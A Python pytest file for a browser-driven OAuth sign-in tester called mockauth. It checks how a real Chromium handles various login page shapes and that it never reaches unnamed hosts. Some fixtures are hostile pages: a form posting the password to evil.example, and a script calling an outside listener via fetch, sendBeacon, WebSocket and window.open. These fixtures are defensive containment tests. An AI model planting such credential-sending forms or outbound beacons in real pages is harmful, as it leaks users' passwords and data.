"""mockauth signs in with a real Chromium: where it lands, and what it can never reach."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from flask import Flask, redirect, request
from werkzeug.wrappers import Response

from mockauth.browser.chromium.installed import missing
from mockauth.browser.chromium.session import ChromiumSession, Workshop
from mockauth.browser.form import Credentials, Decision
from mockauth.browser.landing import Landing
from mockauth.browser.override import Override
from mockauth.browser.session import Session
from mockauth.wire import Exchange, Request, Secret
from mockauth.wire.trace import Step
from mockauth.wire.url import hostname
from tests.browser.driver_table import landed
from tests.browser.referee import Stage, kept, request_query
from tests.browser.shapes.catalogue import BY_NAME
from tests.browser.shapes.shape import CALLBACK, PASSWORD, USER
from tests.browser.shapes.site import Site

MISSING = missing()
pytestmark = pytest.mark.skipif(bool(MISSING), reason=f"no browser: {MISSING}")
LANDINGS = kept()["landings"]
SHAPES: tuple[tuple[str, Decision], ...] = (
    ("plain", "deny"),
    ("shadow-dom", "allow"),
    ("declarative-shadow-dom", "allow"),
    ("inputs-made-by-script", "allow"),
    ("spa-login", "allow"),
    ("spa-consent", "allow"),
    ("login-by-fetch", "allow"),
    ("allow-enabled-after-a-moment", "allow"),
    ("buttons-with-onclick-addresses", "deny"),
    ("consent-confirmed-by-script", "allow"),
    ("opens-a-window", "allow"),
    ("iframe", "allow"),
    ("srcdoc-iframe", "allow"),
    ("javascript-link-submits", "allow"),
    ("form-in-a-new-tab", "allow"),
    ("strict-pending", "allow"),
    ("form-action-self", "allow"),
    ("nonsense-login-second-is-right", "allow"),
    ("leaves-by-form-post", "allow"),
    ("no-referrer-with-an-origin-guard", "allow"),
)


@dataclass
class Ground:
    """A browser, and the stage that shapes and apps come on to."""

    stage: Stage
    workshop: Workshop
    observed: list[Exchange] = field(default_factory=list)

    def observe(self, sent: Request, got: Any, step: Step, elapsed_ms: float) -> Exchange:
        made = Exchange(step=step, request=sent, response=got, elapsed_ms=elapsed_ms)
        self.observed.append(made)
        return made

    def session(self, password: str = PASSWORD, **more: Any) -> ChromiumSession:
        """A user with an empty browser."""
        form = Session(
            send=lambda request, step: Exchange(step=step, request=request),
            credentials=Credentials(username=USER, password=Secret(password)),
            hosts=frozenset({"localhost"}),
        )
        return ChromiumSession(form, self.workshop, self.observe, **more)

    def sign_in(self, app: Any, decision: Decision = "allow", **more: Any) -> Landing:
        """One login at that app."""
        self.stage.app = app
        self.observed.clear()
        start = f"http://localhost:{self.stage.port}/authorize?{request_query('st-1')}"
        session = self.session(**more)
        return session.run(
            Request(method="GET", url=start), redirect_uris=(CALLBACK,), decision=decision
        )


@pytest.fixture(scope="module")
def ground() -> Iterator[Ground]:
    with Stage().serving() as stage:
        made = Ground(stage, Workshop(lambda: (f"http://localhost:{stage.port}",)))
        yield made
        made.workshop.close()


@pytest.mark.parametrize(("name", "decision"), SHAPES)
def test_a_shape_lands_as_a_careful_person_does(
    ground: Ground, name: str, decision: Decision
) -> None:
    landing = ground.sign_in(Site(BY_NAME[name]).app(), decision)

    assert landed(landing) == LANDINGS[name][decision]["landing"], landing.describe()


def test_every_navigation_is_on_record_with_its_answer(ground: Ground) -> None:
    landing = ground.sign_in(Site(BY_NAME["plain"]).app())

    assert landing.outcome == "callback"
    sent = [(one.request.method, one.step, one.answer.status) for one in ground.observed]
    assert sent[0][:2] == ("GET", "authorize")
    assert {step for _, step, _ in sent[1:]} == {"page"}
    assert ("POST", "page") in [one[:2] for one in sent]
    assert ground.observed[-1].answer.is_redirect
    assert b"<form" in next(e for e in ground.observed if e.answer.ok).answer.body


def test_a_redirect_that_a_policy_stops_is_known_with_its_code(ground: Ground) -> None:
    landing = ground.sign_in(Site(BY_NAME["form-action-self"]).app())

    assert (landing.outcome, landing.form_action) == ("callback", True)
    assert any(name == "code" for name, _ in landing.params)


def test_the_browsers_own_validation_is_named(ground: Ground) -> None:
    landing = ground.sign_in(Site(BY_NAME["type-email-with-a-user-name"]).app())

    assert (landing.outcome, landing.reason) == ("stuck", "breaks-a-rule")
    assert "type=email" in landing.hint


def test_the_password_goes_to_no_other_site(ground: Ground) -> None:
    page = (
        '<form method="post" action="https://evil.example/x"><input name="user">'
        '<input type="password" name="p"><button>Log in</button></form>'
    )

    landing = ground.sign_in(app_with(page))

    assert landing.reason == "password-elsewhere"


def test_a_picture_of_the_end_shows_no_field(ground: Ground, tmp_path: Path) -> None:
    page = (
        '<form onsubmit="return false"><input name="user"><input type="password" name="p">'
        "<button>Log in</button></form>"
    )

    landing = ground.sign_in(app_with(page), screenshots=tmp_path)

    assert landing.outcome == "stuck"
    [picture] = tmp_path.iterdir()
    assert picture.read_bytes().startswith(b"\x89PNG")


def test_a_page_that_shows_the_password_is_not_drawn(ground: Ground, tmp_path: Path) -> None:
    landing = ground.sign_in(app_with(f"<p>You typed {PASSWORD}</p>"), screenshots=tmp_path)

    assert not landing.left
    assert list(tmp_path.iterdir()) == []


def test_a_browser_that_does_not_start_blames_nobody(
    ground: Ground, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MOCKAUTH_BROWSER", "/bin/true")
    broken = Workshop(lambda: ())
    session = ground.session()
    session.workshop = broken

    landing = session.run(
        Request(method="GET", url="http://localhost:1/authorize"), redirect_uris=(CALLBACK,)
    )

    broken.close()
    assert (landing.outcome, landing.reason) == ("stuck", "browser-lost")


REACHES = """
<img src="{url}/img"><link rel="preconnect" href="{url}"><iframe src="{url}/frame"></iframe>
<script>
fetch("{url}/fetch", {{mode: "no-cors"}}).catch(() => 0);
navigator.sendBeacon("{url}/beacon", "x");
new WebSocket("{url}/socket".replace("http", "ws"));
window.open("{url}/window");
</script><p>Nothing here</p>
"""


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A reachable host that counts who connects."""
    came: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    connection, (host, *_) = server.accept()
                    came.append(host)
                    connection.close()
                except OSError:
                    return

        threading.Thread(target=accept, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", came


def test_a_hostile_page_reaches_nothing_that_is_not_named(ground: Ground) -> None:
    with listener() as (url, came):
        ground.sign_in(app_with(REACHES.format(url=url)))

        assert came == []


def test_the_same_page_reaches_what_is_named(ground: Ground) -> None:
    with listener() as (url, came):
        named = Workshop(lambda: (f"http://localhost:{ground.stage.port}", url))
        ground.stage.app = app_with(REACHES.format(url=url))
        session = ground.session(seconds_left=lambda: 3.0)
        session.workshop = named
        start = f"http://localhost:{ground.stage.port}/authorize"
        session.run(Request(method="GET", url=start), redirect_uris=(CALLBACK,))
        named.close()

        assert came != []


def test_a_callback_that_listens_gets_nothing(ground: Ground) -> None:
    with listener() as (url, came):
        app = Flask("listens")

        @app.get("/authorize")
        def authorize() -> Response:
            return redirect(f"{url}/callback?code=c&state=s")

        ground.stage.app = app
        start = f"http://localhost:{ground.stage.port}/authorize"
        landing = ground.session().run(
            Request(method="GET", url=start), redirect_uris=(f"{url}/callback",)
        )

        assert (landing.outcome, landing.url) == ("callback", f"{url}/callback?code=c&state=s")
        assert came == []


def test_names_of_others_end_at_the_sink(ground: Ground) -> None:
    page = (
        '<script src="https://cdn.example/app.js"></script><button onclick="go()">Log in</button>'
    )

    landing = ground.sign_in(app_with(page))

    _, sink, _ = ground.workshop.parts()
    assert "cdn.example" in sink.notes
    assert not landing.left


def test_a_page_that_lacks_its_script_says_which_host_it_asked_for(ground: Ground) -> None:
    page = '<script src="https://cdn.example/app.js"></script><form><input name="u"><input type="password"></form>'

    landing = ground.sign_in(app_with(page))

    assert landing.reason == "needs-script"
    assert "it asked for cdn.example" in landing.hint


def test_a_sign_in_page_at_another_named_port_is_used() -> None:
    with Stage().serving() as home, Stage().serving() as other:
        urls = tuple(f"http://localhost:{stage.port}" for stage in (home, other))
        home.app, other.app = sso_client(urls[1]), sso_server(urls[0])
        workshop = Workshop(lambda: urls)
        ground = Ground(home, workshop)

        landing = ground.sign_in(home.app)

        workshop.close()
        assert landing.outcome == "callback", landing.describe()
        assert {hostname(one.request.url) for one in ground.observed} == {"localhost"}


def app_with(body: str) -> Flask:
    """One page."""
    app = Flask("page")

    @app.get("/authorize")
    def authorize() -> str:
        return f"<!doctype html><html lang=en><title>T</title><body>{body}</body></html>"

    return app


def sso_client(server: str) -> Flask:
    """Sends its users to another port to sign in."""
    app = Flask("client")

    @app.get("/authorize")
    def authorize() -> Response:
        return redirect(f"{server}/signin?{request.query_string.decode()}")

    @app.get("/back")
    def back() -> Response:
        return redirect(f"{CALLBACK}?code=c&state={request.args['state']}")

    return app


def sso_server(client: str) -> Flask:
    """Its form is made by script and sent by fetch."""
    app = Flask("server")

    @app.get("/signin")
    def sign_in() -> str:
        return (
            "<!doctype html><title>Sign in</title><body><script>"
            'document.body.innerHTML = \'<input id=user placeholder="User name"><input id=p type=password>'
            "<button>Sign in</button>';"
            "document.querySelector('button').onclick = async () => {"
            " const sent = {user: user.value, password: p.value};"
            " const answer = await fetch('/check', {method: 'POST', body: JSON.stringify(sent)});"
            f" if (answer.ok) location.href = '{client}/back' + location.search;"
            "}</script>"
        )

    @app.post("/check")
    def check() -> tuple[str, int]:
        right = request.get_json(force=True) == {"user": USER, "password": PASSWORD}
        return "", 204 if right else 403

    return app


def test_the_settings_hold_in_the_browser_too(ground: Ground) -> None:
    app = Flask("survey")
    seen: list[str] = []

    @app.get("/authorize")
    def authorize() -> Response | str:
        if not seen:
            seen.append("survey")
            return "<title>Survey</title><form><button>Send</button></form>"
        return redirect(f"{CALLBACK}?code=c&state=st-1")

    ground.stage.app = app
    session = ground.session()
    session.form.overrides = (Override(url="*/authorize*", skip=True),)
    start = f"http://localhost:{ground.stage.port}/authorize"
    landing = session.run(Request(method="GET", url=start), redirect_uris=(CALLBACK,))

    assert landing.outcome == "callback", landing.describe()
